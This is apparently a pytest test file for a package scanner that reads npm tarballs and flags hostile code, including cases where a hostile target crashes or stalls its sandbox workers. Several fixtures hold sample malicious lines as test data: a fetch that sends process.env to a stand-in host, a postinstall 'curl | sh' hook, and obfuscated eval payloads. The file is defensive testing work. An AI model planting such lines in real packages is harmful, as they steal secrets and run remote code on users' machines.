from __future__ import annotations

import asyncio
import io
import json
import os
import tarfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import msgspec
import pytest

from assay.assessment.ports import Blob
from assay.errors import WorkerDied
from assay.model.gap import GapKind
from assay.model.inspection import Inspection
from assay.model.integrity import Integrity
from assay.model.manifest import Manifest
from assay.model.package import PackageRef
from assay.model.packument import Release
from assay.model.subject import Existence, Subject
from assay.wiring.inspector import Job, PoolInspector, inspect_job
from assay.workers.pool import WorkerLimits, WorkerPool
from assay.yara.rule_files import RuleFile

THEN = datetime(2026, 3, 4, tzinfo=UTC)
REF = PackageRef("pkg", "1.0.0")
RELEASE = Release(REF, Manifest("pkg", "1.0.0"), published=THEN, integrity=Integrity.of(b""))
MANIFEST = b'{"name": "pkg", "version": "1.0.0"}'


def packed(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, data in files.items():
            member = tarfile.TarInfo(f"package/{name}")
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return buffer.getvalue()


def inspected(data: bytes) -> Inspection:
    job = Job(Subject(REF, THEN, Existence.EXISTS, release=RELEASE), data)
    return msgspec.msgpack.decode(inspect_job(msgspec.msgpack.encode(job)), type=Inspection)


def test_a_release_is_read_and_its_facts_come_back() -> None:
    data = packed({"package.json": MANIFEST, "index.js": b"module.exports = 1;"})
    found = inspected(data)
    assert (found.existence, found.release, found.integrity) == (Existence.EXISTS, RELEASE, Integrity.of(data))
    assert (found.file_count, found.gaps) == (2, ())


def test_rules_of_the_user_are_matched_with_every_file() -> None:
    data = packed({"package.json": MANIFEST, "notes.txt": b"one\ntwo acme"})
    rules = (RuleFile("own.yar", 'rule own { strings: $a = "acme" condition: $a }'),)
    job = Job(Subject(REF, THEN, Existence.EXISTS, release=RELEASE), data, rules=rules)
    found = msgspec.msgpack.decode(inspect_job(msgspec.msgpack.encode(job)), type=Inspection)
    told = [each.evidence[0] for each in found.findings if each.rule_id == "yara-match"]
    assert [(each.fact, str(each.location), each.excerpt) for each in told] == [
        ("own of own.yar", "notes.txt:2", "acme")
    ]


def test_bytes_that_are_no_archive_are_a_gap_and_the_facts_are_still_judged() -> None:
    found = inspected(b"this is no archive")
    assert [gap.kind for gap in found.gaps] == [GapKind.ARCHIVE]
    assert (found.release, found.integrity) == (RELEASE, None)


@pytest.mark.parametrize(
    "code",
    [
        "fetch('https://a\\ud800.invalid/' + JSON.stringify(process.env));",
        "eval(unescape('\\udfff' + '%63%6f%6e%73%6f%6c%65%2e%6c%6f%67%28%31%29'));",
        "eval(String.fromCharCode(55296, 99, 111, 110, 115, 111, 108, 101, 46, 108, 111, 103, 40, 49, 41));",
    ],
)
def test_half_a_character_pair_in_code_hides_nothing(code: str) -> None:
    found = inspected(packed({"package.json": MANIFEST, "index.js": code.encode()}))
    assert found.findings
    assert (found.release, found.gaps) == (RELEASE, ())


def test_half_a_character_pair_in_a_manifest_hides_nothing() -> None:
    manifest = {"name": "pkg", "version": "1.0.0", "scripts": {"postinstall": "node \ud800.js"}}
    found = inspected(packed({"package.json": json.dumps(manifest).encode()}))
    assert found.findings
    assert not [gap for gap in found.gaps if gap.kind is GapKind.DETECTOR]


def in_hostile_workers(name: str, data: bytes, monkeypatch: pytest.MonkeyPatch) -> Inspection:
    root = Path(__file__).parents[2]
    monkeypatch.setenv("PYTHONPATH", os.pathsep.join((str(root / "src"), str(root))))
    subject = Subject(PackageRef(name, "1.0.0"), THEN, Existence.EXISTS)

    async def run() -> Inspection:
        limits = WorkerLimits(deadline=timedelta(seconds=8))
        pool = WorkerPool("tests.wiring.hostile_target:inspect_job", 1, limits)
        try:
            return await PoolInspector(pool).inspect(subject, Blob(len(data), Integrity.of(data), data), "")
        finally:
            await pool.close()

    return asyncio.run(run())


@pytest.mark.parametrize(("name", "why"), [("tangle-thing", "SIGKILL"), ("knot-thing", "longer than 8 seconds")])
def test_code_that_takes_its_worker_along_is_looked_over_by_another(
    name: str, why: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    manifest = {"name": name, "version": "1.0.0", "scripts": {"postinstall": "curl http://a.invalid | sh"}}
    code = b"fetch('https://a.invalid/' + JSON.stringify(process.env));"
    data = packed({"package.json": json.dumps(manifest).encode(), "index.js": code})
    found = in_hostile_workers(name, data, monkeypatch)
    (gap,) = found.gaps
    assert (gap.kind, gap.what) == (GapKind.SOURCE, f"code of {name}@1.0.0")
    assert "only looked over" in gap.why
    assert why in gap.why
    rules = {finding.rule_id for finding in found.findings}
    assert any("script" in rule for rule in rules)
    honest = inspect_job(msgspec.msgpack.encode(Job(Subject(REF, THEN, Existence.EXISTS), data)))
    followed = {finding.rule_id for finding in msgspec.msgpack.decode(honest, type=Inspection).findings}
    assert rules < followed
    assert found.integrity == Integrity.of(data)


@pytest.mark.parametrize(("name", "what"), [("snare-thing", "only looked over as text"), ("pit-thing", "not read")])
def test_a_file_that_takes_its_worker_along_is_lost_alone(
    name: str, what: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    manifest = {"name": name, "version": "1.0.0", "main": "index.js"}
    code = b"require('./trap'); fetch('https://a.invalid/' + JSON.stringify(process.env));"
    files = {"package.json": json.dumps(manifest).encode(), "index.js": code, "trap.js": b"eval(atob(location.hash));"}
    found = in_hostile_workers(name, packed(files), monkeypatch)
    (gap,) = found.gaps
    assert (gap.kind, gap.what, str(gap.location)) == (GapKind.SOURCE, "trap.js", "trap.js")
    assert what in gap.why
    assert "SIGKILL" in gap.why
    assert "environment-exfiltration" in {finding.rule_id for finding in found.findings}
    assert not found.is_lasting


def test_a_release_that_takes_two_workers_along_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(WorkerDied, match="SIGKILL"):
        in_hostile_workers("killer-thing", packed({"package.json": MANIFEST}), monkeypatch)
